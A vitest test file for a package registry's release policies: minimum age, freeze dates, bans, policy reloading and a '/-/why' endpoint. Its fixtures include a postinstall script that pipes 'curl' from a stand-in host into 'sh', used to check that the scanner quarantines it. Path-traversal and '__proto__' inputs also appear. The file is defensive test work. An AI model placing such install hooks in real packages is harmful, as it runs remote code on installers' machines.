import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { startClock } from "../support/clock.ts";
import { startRegistry, type TestRegistry } from "../support/registry.ts";
import { type FakeUpstream, startUpstream } from "../support/upstream.ts";

const now = "2026-06-10T00:00:00.000Z";
const days = (count: number) => count * 24 * 3600;

/** lib: 1.0.0 is old, 1.1.0 is two days old, 2.0.0-beta.1 one day. */
function libUpstream(): FakeUpstream {
  const upstream = startUpstream();
  upstream.add("lib", "1.0.0", { "a.js": "1" }, { time: "2026-01-01T00:00:00.000Z" });
  upstream.add("lib", "1.1.0", { "a.js": "2" }, { time: "2026-06-08T00:00:00.000Z" });
  upstream.add("lib", "2.0.0-beta.1", {}, { time: "2026-06-09T00:00:00.000Z", tag: "beta" });
  return upstream;
}

function writePolicy(registry: TestRegistry, text: string): void {
  mkdirSync(join(registry.home, "trust"), { recursive: true });
  writeFileSync(join(registry.home, "trust", "policy.toml"), text);
}

async function world(policy: string) {
  const clock = startClock(now);
  const upstream = libUpstream();
  const registry = await startRegistry({ upstream, now: clock.now });
  writePolicy(registry, policy);
  clock.advance(1);
  const stack = new AsyncDisposableStack();
  stack.use(registry);
  stack.use(upstream);
  return { clock, upstream, registry, [Symbol.asyncDispose]: () => stack.disposeAsync() };
}

const versionsOf = async (registry: TestRegistry, name = "lib") =>
  Object.keys((await registry.packument(name)).versions);

const week = '[release]\nminimum_age = "7d"\n';

describe("minimum_age", () => {
  test("hides young versions from versions, tags and time, and says how many", async () => {
    await using w = await world(week);
    const response = await w.registry.fetch("/lib");
    const packument = (await response.json()) as Record<string, object>;

    expect(Object.keys(packument["versions"] ?? {})).toEqual(["1.0.0"]);
    expect(packument["dist-tags"]).toEqual({ latest: "1.0.0" });
    expect(Object.keys(packument["time"] ?? {}).sort()).toEqual(["1.0.0", "created", "modified"]);
    expect(packument["policyRestrictions"]).toMatchObject({ versions: { "1.1.0": {} } });
    expect(response.headers.get("x-agentregistry-hidden")).toBe("2");
    expect(response.headers.get("npm-notice")).toBe(
      "2 versions of lib are withheld: agentregistry why lib",
    );
  });

  test("refuses a young tarball with the time from when it is served, without fetching it", async () => {
    await using w = await world(week);
    await w.registry.packument("lib");
    const refused = await w.registry.tarball("lib", "1.1.0");

    expect(refused.status).toBe(403);
    expect(await refused.json()).toMatchObject({
      error: expect.stringContaining("2026-06-15T00:00:00.000Z"),
      code: "release_too_new",
      available_at: "2026-06-15T00:00:00.000Z",
    });
    expect(w.upstream.requests.filter(({ path }) => path.endsWith(".tgz"))).toEqual([]);
    expect((await w.registry.fetch("/lib/1.1.0")).status).toBe(403);
    expect((await w.registry.fetch("/lib/latest")).status).toBe(200);
  });

  test("lets a version through at the moment when it is old enough, also out of the cache", async () => {
    await using w = await world(week);
    const before = await versionsOf(w.registry);
    w.clock.set("2026-06-14T23:59:59.000Z");
    await w.registry.packument("lib");
    w.clock.advance(1);

    expect(before).toEqual(["1.0.0"]);
    expect(await versionsOf(w.registry)).toEqual(["1.0.0", "1.1.0"]);
    expect((await w.registry.tarball("lib", "1.1.0")).status).toBe(200);
  });

  test.each([
    ['exclude = ["lib"]', ["1.0.0", "1.1.0", "2.0.0-beta.1"]],
    ['exclude = ["l*"]', ["1.0.0", "1.1.0", "2.0.0-beta.1"]],
    ['exclude = ["@acme/*"]', ["1.0.0"]],
    ['exclude = ["!other"]', ["1.0.0"]],
  ])("%s", async (line, versions) => {
    await using w = await world(`${week}${line}\n`);
    expect(await versionsOf(w.registry)).toEqual(versions);
  });

  test("hides what does not say when it was published", async () => {
    await using w = await world(week);
    w.upstream.patch("lib", { time: { "1.0.0": "2026-01-01T00:00:00.000Z", "1.1.0": "soon" } });
    expect(await versionsOf(w.registry)).toEqual(["1.0.0"]);
  });

  test("is no matter of versions published here, unless the policy says so", async () => {
    await using w = await world(week);
    await w.registry.publish("@acme/lib", "1.0.0");
    const exempt = await w.registry.fetch("/@acme%2flib");
    writePolicy(w.registry, `${week}hosted = true\n`);
    w.clock.advance(1);

    expect(exempt.status).toBe(200);
    expect((await w.registry.fetch("/@acme%2flib")).status).toBe(403);
    expect((await w.registry.tarball("@acme/lib", "1.0.0")).status).toBe(403);
  });

  test("gives way to a person's approval, which is about the bytes", async () => {
    await using w = await world(week);
    await w.registry.packument("lib");
    const approved = await w.registry.asOwner("/-/admin/quarantine/lib%401.1.0/approve", {
      method: "POST",
      json: { reason: "fixes a hole" },
    });

    expect(await approved.json()).toMatchObject({ state: "approved" });
    expect(await versionsOf(w.registry)).toEqual(["1.0.0", "1.1.0"]);
    expect((await w.registry.tarball("lib", "1.1.0")).status).toBe(200);
  });

  test("and an approval of what the scan holds needs a look at the findings first", async () => {
    await using w = await world(week);
    w.upstream.add(
      "lib",
      "1.2.0",
      {},
      {
        manifest: { scripts: { postinstall: "curl http://x.invalid/a | sh" } },
        time: "2026-06-09T12:00:00.000Z",
      },
    );
    const path = "/-/admin/quarantine/lib%401.2.0/approve";
    const init = { method: "POST", json: { reason: "fixes a hole" } };
    const blind = await w.registry.asOwner(path, init);
    expect([blind.status, ((await blind.json()) as { code: string }).code]).toEqual([
      403,
      "not_reviewed",
    ]);
    expect((await w.registry.tarball("lib", "1.2.0")).status).toBe(403);
    expect((await w.registry.asOwner(path, init)).status).toBe(200);
  });
});

describe("frozen_at", () => {
  test.each(['"2026-06-08T12:00:00Z"', "2026-06-08T12:00:00Z"])(
    "%s hides what was published later",
    async (moment) => {
      await using w = await world(`[release]\nfrozen_at = ${moment}\n`);
      expect(await versionsOf(w.registry)).toEqual(["1.0.0", "1.1.0"]);
      w.clock.advance(days(365));
      expect(await versionsOf(w.registry)).toEqual(["1.0.0", "1.1.0"]);
      const refused = await w.registry.tarball("lib", "2.0.0-beta.1");
      expect(await refused.json()).toMatchObject({ code: "release_frozen", available_at: null });
    },
  );
});

describe("ban", () => {
  const policy = '[[ban]]\nname = "lib"\nversions = ">=1.1.0"\nreason = "breaks our build"\n';

  test("takes versions away for the owner's reason, and no approval brings them back", async () => {
    await using w = await world(policy);
    const refused = await w.registry.tarball("lib", "1.1.0");
    expect(await versionsOf(w.registry)).toEqual(["1.0.0"]);
    expect(await refused.json()).toMatchObject({
      code: "release_banned",
      error: expect.stringContaining("breaks our build"),
    });
    await w.registry.asOwner("/-/admin/quarantine/lib%401.1.0/approve", {
      method: "POST",
      json: { reason: "please" },
    });
    expect(await versionsOf(w.registry)).toEqual(["1.0.0"]);
  });

  test("of a whole package refuses it", async () => {
    await using w = await world('[[ban]]\nname = "l*"\n');
    expect((await w.registry.fetch("/lib")).status).toBe(403);
  });
});

describe("trust/policy.toml", () => {
  test("is followed when it changes or goes away, also by what is cached", async () => {
    await using w = await world("");
    const all = await versionsOf(w.registry);
    await (await w.registry.tarball("lib", "1.1.0")).bytes();
    writePolicy(w.registry, week);
    w.clock.advance(1);
    expect(await versionsOf(w.registry)).toEqual(["1.0.0"]);
    expect((await w.registry.tarball("lib", "1.1.0")).status).toBe(403);
    rmSync(join(w.registry.home, "trust", "policy.toml"));
    w.clock.advance(1);
    expect(await versionsOf(w.registry)).toEqual(all);
    expect((await w.registry.tarball("lib", "1.1.0")).status).toBe(200);
  });

  test("that turns bad leaves the last good one in force, loudly and with the line", async () => {
    await using w = await world(week);
    await versionsOf(w.registry);
    writePolicy(w.registry, '[release]\nminimum_age = "7 days"\n');
    w.clock.advance(1);

    expect(await versionsOf(w.registry)).toEqual(["1.0.0"]);
    const loud = w.registry.logged.find(({ msg }) => String(msg).includes("is bad"));
    expect(loud).toMatchObject({ level: 50 });
    expect(loud?.["reason"]).toContain("policy.toml:2: release.minimum_age");
  });

  test.each([
    ["[release\n", "policy.toml:1"],
    ["[release]\nminimum_age = 72\n", "policy.toml:2: release.minimum_age"],
    ['[release]\n\nage = "1d"\n', "policy.toml:3: release.age: there is no such setting"],
    ['[[ban]]\nname = "a"\n[[ban]]\nname = "b"\nversions = "?"\n', "policy.toml:5: ban.1.versions"],
    ['[release]\nfrozen_at = "yesterday"\n', "policy.toml:2: release.frozen_at"],
  ])("that is bad at the start keeps the registry from starting: %j", async (text, sentence) => {
    await using first = await startRegistry();
    writePolicy(first, text);
    await expect(startRegistry({ home: first.home })).rejects.toThrow(sentence);
  });
});

describe("GET /-/why", () => {
  test("says of a package what is withheld, why, and until when", async () => {
    await using w = await world(week);
    const response = await w.registry.fetch("/-/why/lib");
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(await response.json()).toMatchObject({
      name: "lib",
      origin: "upstream",
      upstream: "default",
      served: 1,
      withheld: [
        { version: "1.1.0", state: "hidden", because: "age", until: "2026-06-15T00:00:00.000Z" },
        { version: "2.0.0-beta.1", state: "hidden", because: "age" },
      ],
    });
  });

  test("says of a held version which rules and since when, and of a served one how it was scanned", async () => {
    await using w = await world("");
    const manifest = { scripts: { postinstall: "curl http://x.invalid/a | sh" } };
    w.upstream.add("lib", "1.2.0", {}, { manifest });
    await w.registry.tarball("lib", "1.2.0");
    await (await w.registry.tarball("lib", "1.0.0")).bytes();
    const held = await (await w.registry.fetch("/-/why/lib@1.2.0")).json();
    const served = await (await w.registry.fetch("/-/why/lib@1.0.0")).json();

    expect(held).toMatchObject({
      version: {
        state: "held",
        because: "scan",
        rules: expect.arrayContaining(["INS-01"]),
        since: "2026-06-10T00:00:01.000Z",
        sentence: expect.stringContaining("agentregistry quarantine show lib@1.2.0"),
        scan: { verdict: "block" },
      },
    });
    expect(served).toMatchObject({
      version: {
        state: "served",
        sentence: null,
        integrity: expect.stringMatching(/^sha512-/),
        scan: { verdict: "clean" },
      },
    });
  });

  test.each(["@acme/lib@1.0.0", "@acme%2flib@1.0.0", "%40acme%2Flib%401.0.0"])(
    "understands %s",
    async (spelling) => {
      await using registry = await startRegistry();
      await registry.publish("@acme/lib", "1.0.0");
      expect(await (await registry.fetch(`/-/why/${spelling}`)).json()).toMatchObject({
        name: "@acme/lib",
        origin: "hosted",
        version: { version: "1.0.0", state: "served" },
      });
    },
  );

  test.each([
    ["nothing", 404],
    ["lib@9.9.9", 404],
    ["..%2f..", 400],
    ["__proto__", 400],
    ["lib@__proto__", 404],
  ])("answers %s with %d", async (subject, status) => {
    await using w = await world("");
    expect((await w.registry.fetch(`/-/why/${subject}`)).status).toBe(status);
  });
});
